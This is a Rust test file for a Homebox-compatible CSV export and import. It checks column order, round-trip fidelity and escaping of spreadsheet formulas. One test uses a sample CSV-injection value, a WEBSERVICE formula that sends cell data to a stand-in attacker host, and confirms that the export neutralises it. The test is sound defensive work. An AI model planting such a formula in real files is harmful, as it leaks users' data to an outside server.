//! Our own export, and reading it back.

use std::collections::BTreeMap;

use shared::{CreateItem, ItemId};
use time::macros::datetime;

use super::super::{CsvExport, ExportItem};
use super::{Stored, cells, day, export, fixture, import, store, strings, usd, usd_amount};

// ------------------------------------------------------------------ our own export

fn every_field() -> Stored {
    let custom: BTreeMap<String, String> = [
        ("Color", "Blue, or \"navy\""),
        ("Warranty details", "Two years; keep the receipt"),
        ("Zubehör", "=2+3"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect();
    let create = CreateItem {
        name: Some("Cordless Drill".into()),
        description: Some("18 V, two batteries.\nCase included.".into()),
        quantity: Some(2),
        tags: Some(strings(&["Tools", "power tools"])),
        brand: Some("Bosch".into()),
        model: Some("GSR 18V-55".into()),
        serial_number: Some("-SN 0001".into()),
        barcode: Some("4059952537306".into()),
        purchase_date: day("2023-04-01"),
        purchase_price: usd_amount(12_999),
        purchased_from: Some("Hardware Store".into()),
        estimated_value: usd_amount(8_000),
        warranty_expires: day("2026-04-01"),
        notes: Some("Café ☕".into()),
        custom_fields: Some(custom),
        insured: Some(true),
        lifetime_warranty: Some(false),
        sold_to: Some("Alex".into()),
        sold_date: day("2024-12-24"),
        sold_price: usd_amount(5_050),
        sold_notes: Some("@home pick-up".into()),
        ..CreateItem::default()
    };
    Stored {
        id: "01890a5d-ac96-774b-bcce-b302099a8057".parse().unwrap(),
        fields: create.validate(&usd()).unwrap(),
        path: strings(&["Home", "Garage", "Shelf 2"]),
        asset_id: Some("000-042".into()),
    }
}

#[test]
fn the_export_writes_every_column_in_homeboxs_order_then_ours() {
    let bytes = export(&[every_field()]);
    let expected = "\u{feff}HB.import_ref,HB.parent_import_ref,HB.location,HB.tags,HB.asset_id,\
HB.archived,HB.url,HB.name,HB.quantity,HB.description,HB.insured,HB.notes,HB.purchase_price,\
HB.purchase_from,HB.purchase_date,HB.manufacturer,HB.model_number,HB.serial_number,\
HB.lifetime_warranty,HB.warranty_expires,HB.warranty_details,HB.sold_to,HB.sold_price,\
HB.sold_date,HB.sold_notes,HB.x.estimated_value,HB.x.currency,HB.x.barcode,HB.x.created_at,\
HB.x.updated_at,HB.field.Color,HB.field.Zubehör\n\
01890a5d-ac96-774b-bcce-b302099a8057,,Home / Garage / Shelf 2,power tools; Tools,000-042,\
false,,Cordless Drill,2,\"18 V, two batteries.\nCase included.\",true,Café ☕,129.99,\
Hardware Store,2023-04-01,Bosch,GSR 18V-55,'-SN 0001,false,2026-04-01,\
Two years; keep the receipt,Alex,50.5,2024-12-24,'@home pick-up,80,USD,4059952537306,\
2024-05-31T12:00:00Z,2024-06-01T06:30:15Z,\"Blue, or \"\"navy\"\"\",'=2+3\n";
    assert_eq!(String::from_utf8(bytes).unwrap(), expected);
}

#[test]
fn export_then_import_then_export_is_byte_identical() {
    let mut items = vec![every_field()];
    // Homebox's files, as a household would hold them after importing them.
    for bytes in [
        fixture!("homebox-export-all-columns.csv"),
        fixture!("hay-kot/import.csv"),
        fixture!("hay-kot/import/fields.csv"),
        fixture!("sysadminsmedia/import/types.csv"),
    ] {
        items.extend(store(import(bytes)));
    }
    items.push(Stored {
        id: ItemId::new(),
        fields: CreateItem {
            name: Some("Nothing else".into()),
            ..CreateItem::default()
        }
        .validate(&usd())
        .unwrap(),
        path: Vec::new(),
        asset_id: None,
    });
    let first = export(&items);
    let again = store(import(&first));
    assert_eq!(again.len(), items.len());
    for (before, after) in items.iter().zip(&again) {
        assert_eq!(after, before);
    }
    assert_eq!(String::from_utf8(export(&again)), String::from_utf8(first));
}

#[test]
fn formulas_are_neutralised_on_export_and_restored_on_import() {
    let mut drill = every_field();
    drill.fields.name = "=WEBSERVICE(\"http://attacker.example/?d=\"&B2)".into();
    drill.fields.description = Some("-20 °C freezer".into());
    drill.fields.tags = strings(&["+Tag"]);
    drill.fields.notes = Some("'=already quoted".into());
    drill.path = strings(&["=Garage", "Shelf"]);
    let bytes = export(std::slice::from_ref(&drill));
    let row = &cells(&bytes)[0];
    assert_eq!(
        row["HB.name"],
        "'=WEBSERVICE(\"http://attacker.example/?d=\"&B2)"
    );
    assert_eq!(row["HB.description"], "'-20 °C freezer");
    assert_eq!(row["HB.tags"], "'+Tag");
    assert_eq!(row["HB.notes"], "''=already quoted");
    assert_eq!(row["HB.location"], "'=Garage / Shelf");
    assert_eq!(row["HB.serial_number"], "'-SN 0001");
    assert_eq!(row["HB.field.Zubehör"], "'=2+3");
    assert_eq!(row["HB.sold_notes"], "'@home pick-up");
    let back = store(import(&bytes));
    assert_eq!(back, [drill]);
}

#[test]
fn a_custom_field_missing_from_the_header_is_an_error_not_a_silent_loss() {
    let drill = every_field();
    let mut csv = CsvExport::new(Vec::new(), &strings(&["Color"])).unwrap();
    let err = csv
        .write(&ExportItem {
            id: drill.id,
            fields: &drill.fields,
            location_path: &drill.path,
            asset_id: None,
            created_at: datetime!(2024-05-31 12:00 UTC),
            updated_at: datetime!(2024-05-31 12:00 UTC),
        })
        .unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidInput);
    assert!(err.to_string().contains("Zubehör"), "{err}");
}
